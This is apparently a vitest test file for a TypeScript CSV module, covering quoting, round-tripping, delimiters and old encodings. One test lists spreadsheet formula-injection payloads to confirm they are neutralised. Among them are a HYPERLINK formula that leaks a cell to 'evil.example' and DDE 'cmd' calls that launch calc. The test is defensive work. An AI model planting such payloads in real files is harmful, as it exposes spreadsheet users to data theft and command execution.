import { expect, it } from 'vitest';
import { csvOf, rowsOf, textOf } from './csv';

/** What stands in the file, line by line, without the mark at its begin. */
const written = (...cells: string[]) => csvOf([cells]).replace(/^\uFEFF/, '');

it('quotes what RFC 4180 says must be quoted, and ends lines as it says', () => {
  expect(written('plain', 'a, b', 'say "no"', 'two\nlines', '')).toBe('plain,"a, b","say ""no""","two\nlines",\r\n');
});

it('keeps a spreadsheet from running a cell', () => {
  for (const hostile of [
    '=1+1',
    '+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=1+1\nand a second line',
    '-2+3+cmd|" /C calc"!A0',
  ]) {
    const [[cell] = []] = [parsedAsIs(written(hostile))];
    expect(cell, hostile).toBe(`'${hostile}`);
  }
});

it('leaves alone what only looks similar', () => {
  expect(written('a=b', '1-2', 'adele@contoso.example', "'quoted'")).toBe("a=b,1-2,adele@contoso.example,'quoted'\r\n");
});

it('reads back what it wrote', () => {
  const rows = [
    ['user name', 'display name'],
    ['adele@contoso.example', 'Vance, Adele "Del"'],
    ['=x@contoso.example', '-5'],
    ['ünïcödé@contoso.example', '山田太郎'],
  ];
  expect(rowsOf(csvOf(rows))).toEqual(rows);
});

it('reads what spreadsheets of other places write, and leaves out empty lines', () => {
  expect(rowsOf('a;b\r\n\r\n1;"2;3"\r\n;\r\n')).toEqual([
    ['a', 'b'],
    ['1', '2;3'],
  ]);
  expect(rowsOf('a\tb\n1\t2')).toEqual([
    ['a', 'b'],
    ['1', '2'],
  ]);
});

it('reads a file with one column', () => {
  expect(rowsOf('user name\nadele@contoso.example\n')).toEqual([['user name'], ['adele@contoso.example']]);
});

it('does not end over a quote that nobody closed', () => {
  expect(rowsOf('a,b\n"x,1\ny,2')).toHaveLength(2);
});

it('reads files of old spreadsheets, which are not UTF-8', async () => {
  expect(await textOf(new Blob([new Uint8Array([0x4a, 0xfc, 0x72, 0x67, 0x65, 0x6e])]))).toBe('Jürgen');
  expect(await textOf(new Blob(['\uFEFFJürgen']))).toBe('Jürgen');
});

/** The first cell of a line exactly as it is in the file. */
function parsedAsIs(line: string): string[] {
  const quoted = /^"((?:[^"]|"")*)"/.exec(line);
  return [quoted ? (quoted[1] ?? '').replaceAll('""', '"') : (line.split(/,|\r\n/)[0] ?? '')];
}
